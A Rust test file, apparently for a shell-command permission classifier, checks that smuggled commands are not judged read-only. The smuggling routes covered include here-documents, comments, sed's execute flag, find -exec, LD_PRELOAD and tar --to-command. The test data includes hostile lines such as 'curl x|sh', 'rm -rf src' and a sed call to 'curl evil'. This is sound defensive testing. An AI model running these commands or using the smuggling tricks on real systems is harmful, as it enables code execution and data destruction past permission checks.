//! What an audit showed on the released binary, item by item.

use helve_shell::Check;

use super::{analysed, is_covered, is_denied, word};

/// Texts that run a command behind a here-document whose end a reader may take for another.
fn hiding_here_documents() -> Vec<String> {
    let starts = [
        "<<E", "<<E;", "<<E&&", "<<E||", "<<E|", "<<\"E\"", "<<'E'", "<<\\E", "<<-E", "0<<-E",
        "0<<E", "<<E\"\"", "<<\"\"E", "<<$\"E\"", "<<$'E'", "<<E'F'", "<<\\\nE", "<<-\\\nE",
        "<< E", "<<\tE", "<<E#", "<<E)", "<<E>x", "<<E<y", "<<E\\\n", "<<E{", "<<E$x", "<<E`x`",
        "<<''", "<<\"\"", "<<E.F", "<<E&",
    ];
    let tails = [" ls", "ls", " cat", " true; ls"];
    let ends = ["E", "EF", "\tE", "E "];
    let mut texts = Vec::new();
    for start in starts {
        for tail in tails {
            for end in ends {
                texts.push(format!(
                    "cat {start}{tail}\nhi\n{end}\nrm -rf src\ncurl x|sh\n"
                ));
            }
        }
    }
    texts
}

#[test]
fn a1_no_here_document_hides_a_command() {
    let texts = hiding_here_documents();
    assert!(texts.len() >= 384, "{}", texts.len());
    for text in &texts {
        let verdict = word(text);
        assert!(!matches!(verdict, "reads" | "edits"), "{verdict} {text:?}");
        assert!(is_denied("rm:*", text), "{text:?}");
        assert!(is_denied("curl:*", text), "{text:?}");
    }
}

#[test]
fn a2_no_comment_hides_a_command() {
    for text in [
        "echo $((1+1))\\\n#  ;touch pwn",
        "echo a\\\n#;touch pwn",
        "echo \"a\"\\\n#;touch pwn",
        "echo $x\\\n# ;touch pwn",
        "echo $(date)\\\n# ;touch pwn",
        "ls \\\n#\ntouch pwn",
    ] {
        let verdict = word(text);
        assert_ne!(verdict, "reads", "{text:?}");
        assert!(is_denied("touch:*", text), "{text:?}");
    }
    assert_eq!(word("ls # ; touch pwn"), "reads");
    assert_eq!(word("echo a#b"), "reads");
}

#[test]
fn a3_sed_is_read_as_gnu_sed_reads_it() {
    for text in [
        "sed -n '/x/p' f",
        "sed '/re/d' f",
        "sed 1d f",
        "sed -n '$=' f",
        "sed '/x/d' f",
        "sed -e 's/a/b/' f",
        "sed -es/a/b/ f",
        "sed --expression=s/a/b/ f",
        "sed '1,5!d' f",
        "sed '{s/a/b/;p}' f",
    ] {
        assert_eq!(word(text), "reads", "{text}");
    }
    for text in [
        "sed -n '/x/e curl evil' f",
        "sed -n '/x/w /etc/cron.d/x' f",
        "sed -f x.sed f",
        "sed '1e rm x' f",
        "sed 's/x/rm y/e' f",
        "sed -e1e f",
        "sed --expression=1e f",
        "sed '/a/{e' f",
    ] {
        assert_ne!(word(text), "reads", "{text}");
        assert!(
            !is_covered(&["sed:*", "sed -n:*", "sed -f:*"], text),
            "{text}"
        );
        let suggestions = analysed(text).suggestions();
        assert!(suggestions.is_empty(), "{text}: {suggestions:?}");
    }
}

#[test]
fn a4_what_runs_code_or_writes_is_not_read_only() {
    for text in [
        "git --git-dir=D status",
        "git -C D status",
        "git rev-list --output=FILE HEAD",
        "git branch --color NAME",
        "git tag --color NAME",
        "cargo tree",
        "cargo metadata",
        "cargo --version",
        "gradle help",
        "bundle list",
        "yarn --version",
        "uv tree",
        "pnpm ls",
        "mvn -v",
        "cd D && git status",
    ] {
        assert_ne!(word(text), "reads", "{text}");
    }
    for text in [
        "git status",
        "git diff HEAD~1",
        "git log --oneline -n 5",
        "git branch -a",
    ] {
        assert_eq!(word(text), "reads", "{text}");
    }
}

#[test]
fn a5_a_rule_does_not_let_another_program_run() {
    for (rule, text) in [
        ("go vet:*", "go vet -vettool=./x ./..."),
        ("bazel build:*", "bazel build --run_under=./x //:a"),
        ("helm install:*", "helm install --post-renderer ./x a b"),
        ("ssh host:*", "ssh host -o ProxyCommand=./x"),
        ("ssh:*", "ssh -o ProxyCommand=./x host"),
        ("less:*", "less +!cmd f"),
        ("npm config:*", "npm config set script-shell ./x"),
        ("git log:*", "git log --format=%B > Makefile"),
        ("git log:*", "git log >> Makefile"),
        ("tar:*", "tar --to-command=sh -xf a"),
        ("cargo test:*", "cargo test --config x=1"),
        ("cargo test:*", "LD_PRELOAD=./x.so cargo test"),
        ("cargo test:*", "RUSTC_WRAPPER=./x cargo test"),
        ("cargo test:*", "PATH=.:$PATH cargo test"),
        ("echo:*", "echo x > Makefile"),
    ] {
        assert!(!is_covered(&[rule], text), "{rule}: {text}");
    }
    for (rule, text) in [
        ("cargo test:*", "cargo test"),
        ("cargo test:*", "cargo test --lib -- name 2>&1 | tail -n 20"),
        ("cargo test:*", "DEBUG=1 cargo test"),
        ("cargo test:*", "RUST_LOG=debug timeout 60 cargo test --lib"),
        ("npm test:*", "DEBUG=1 npm test"),
        ("npm test:*", "bash -c 'npm test'"),
        ("make:*", "make test > /dev/null 2>&1"),
        ("npm run:*", "for t in a b; do npm run \"$t\"; done"),
    ] {
        assert!(is_covered(&[rule], text), "{rule}: {text}");
    }
}

#[test]
fn a7_what_is_suggested_covers_what_it_is_suggested_for() {
    for text in [
        "rm \"~\"",
        "npm run build",
        "git push origin main",
        "cargo test --lib",
        "docker compose up",
        "DEBUG=1 npm test",
        "make all",
        "git commit -m 'a b'",
        "go test ./...",
    ] {
        let suggestions = analysed(text).suggestions();
        assert!(!suggestions.is_empty(), "{text}");
        let rules: Vec<&str> = suggestions.iter().map(String::as_str).collect();
        assert!(is_covered(&rules, text), "{text}: {suggestions:?}");
    }
}

#[test]
fn a8_options_are_not_abbreviated() {
    for text in [
        "env --unse ls rm -rf src",
        "env --split 'rm x' ls",
        "timeout --kill 5 3 rm x",
        "sort --outp=x y",
        "find . -exe rm {} +",
        "nice --adj 5 rm x",
        "xargs --arg f rm",
        "tree --outpu x",
    ] {
        assert!(
            !matches!(word(text), "reads" | "edits"),
            "{text}: {}",
            word(text)
        );
    }
    assert!(is_denied("rm:*", "env --unset ls rm -rf src"));
}

#[test]
fn a9_no_text_panics() {
    for text in [
        "\\c${}#\\",
        "${}#\\",
        "${",
        "`\\",
        "$'\\",
        "a=$(\\",
        "<<\\",
        "\"${}\\",
        "${x}\\",
        "$(x)\\",
        "$((\\",
        "{a,\\",
    ] {
        let _ = word(text);
    }
}

#[test]
fn e2_what_is_proven_part_by_part_does_not_ask() {
    for text in [
        "for i in 1 2 3; do echo $i; done",
        "for f in *.rs; do wc -l \"$f\"; done",
        "if test -d /tmp; then echo exists; fi",
        "if [ -f file.txt ]; then cat file.txt; fi",
        "echo $(date)",
        "echo `date`",
        "(cd src; pwd)",
        "while read -r line; do echo \"$line\"; done < notes.txt",
        "case $x in a) echo A;; *) echo B;; esac",
        "[[ -f Cargo.toml && $x == y* ]] && echo yes",
        "x=$(git rev-parse HEAD); echo \"$x\"",
    ] {
        assert_eq!(word(text), "reads", "{text}");
    }
    for text in [
        "for f in *.o; do rm $f; done",
        "if true; then rm x; fi",
        "echo $(rm x)",
        "(rm x)",
        "while rm x; do ls; done",
    ] {
        assert_ne!(word(text), "reads", "{text}");
        assert!(is_denied("rm:*", text), "{text}");
    }
}

#[test]
fn e3_an_unknown_variable_is_covered_by_a_rule_and_suggests_one() {
    let analysis = analysed("DEBUG=1 npm test");
    assert_eq!(analysis.check().check, Check::Pass);
    assert_eq!(analysis.suggestions(), ["npm test:*"]);
    let secret = analysed("API_KEY=abc npm run deploy");
    assert!(secret.suggestions().is_empty());
    assert_eq!(word("MYAPP_DEBUG=1 ls"), "acts");
    assert!(is_covered(&["ls:*"], "MYAPP_DEBUG=1 ls"));
    assert!(!is_covered(&["ls:*"], "LD_PRELOAD=./x ls"));
}

#[test]
fn a_dash_is_a_file_for_who_writes() {
    for text in ["rm a.txt -", "mkdir a -", "cp a.txt -", "mv - b"] {
        let Check::Edit { paths } = analysed(text).check().check else {
            panic!("{text}");
        };
        assert!(paths.iter().any(|path| path == "./-"), "{text}: {paths:?}");
    }
}

#[test]
fn touch_of_its_output_is_no_edit() {
    for text in ["touch -", "touch a -", "touch -- -", "ls; touch - | tail"] {
        assert_eq!(word(text), "acts", "{text}");
    }
    assert_eq!(word("touch ./- a-"), "edits");
}

#[test]
fn what_find_runs_counts() {
    for text in [
        "find . -name a.txt -exec touch pwn ';'",
        "find -name a.txt -exec touch ';'",
        "find -name a.txt -exec touch {} +",
        "if true\nthen find . -name a.txt -exec touch pwn ';'; fi",
        "x=\"$(find . -name a.txt -exec touch pwn ';')\"; echo \"$x\"",
    ] {
        assert_ne!(word(text), "reads", "{text:?}");
    }
    assert_eq!(word("find . -name a.txt -exec wc -l {} +"), "reads");
}

#[test]
fn folders_that_nobody_named_are_no_edit() {
    for text in ["rmdir -p a/b", "mkdir -p a/../b", "mkdir -p $(ls)/b"] {
        assert_ne!(word(text), "edits", "{text}");
    }
    assert_eq!(word("mkdir -p src/a/b"), "edits");
    assert_eq!(word("rmdir a"), "edits");
}

#[test]
fn a_loop_sets_no_variable_of_programs() {
    for text in [
        "for ((PATH=1; PATH<2; PATH++)); do ls; done",
        "for ((GIT_DIR=1; GIT_DIR<2; GIT_DIR++)); do git status; done",
        "for PATH in bin; do ls; done",
        "while read -r PATH; do ls; done <list.txt",
        "while read -r line; do ls; export SPECIAL=1; done <list.txt",
        "while read -r line; do ls; for ((SPECIAL=1; SPECIAL<2; SPECIAL++)); do :; done; done <list.txt",
    ] {
        assert_ne!(word(text), "reads", "{text}");
    }
    assert_eq!(word("for ((i=1; i<3; i++)); do ls; done"), "reads");
    assert_eq!(
        word("while read -r line; do echo \"$x $line\"; x=1; done <list.txt"),
        "reads"
    );
}

#[test]
fn a_word_that_bash_expands_twice_is_no_file() {
    for text in [
        "echo >&'$(touch x)'",
        "echo >&\\'",
        "echo 1>&'`touch x`'",
        "x='$(touch x)'; echo >&$x",
        "echo >&'~'",
        "{ ls; } >&\"a\"'$x'",
    ] {
        let verdict = word(text);
        assert!(
            !matches!(verdict, "reads" | "edits" | "acts"),
            "{verdict} {text}"
        );
    }
    assert!(is_denied("touch:*", "echo >&'$(touch x)'"));
    assert_eq!(word("echo >&a.txt"), "edits");
    assert_eq!(word("echo &>'a b.txt'"), "edits");
}

#[test]
fn a_danger_behind_a_here_document_is_seen() {
    assert_eq!(word("dd t"), "danger");
    for text in [
        "cat<<E;\nE\ndd \"t\"",
        "cat <<E\nE\ndd t",
        "ls \\\n; dd t",
        "ls #\ndd t",
    ] {
        assert_eq!(word(text), "danger", "{text:?}");
    }
}

#[test]
fn what_follows_a_name_of_git_config_is_its_value() {
    for text in [
        "git config user.name --",
        "git config user.name --list",
        "git config user.name -z",
        "git config --worktree user.name --get",
        "git config user.name x",
        "git config get --file=x user.name",
        "git config --type --list user.name",
    ] {
        assert_ne!(word(text), "reads", "{text}");
    }
    for text in [
        "git config user.name",
        "git config --list",
        "git config --get user.name",
        "git config --global --get user.name",
        "git config get --all user.name",
        "git config list --show-origin",
    ] {
        assert_eq!(word(text), "reads", "{text}");
    }
}
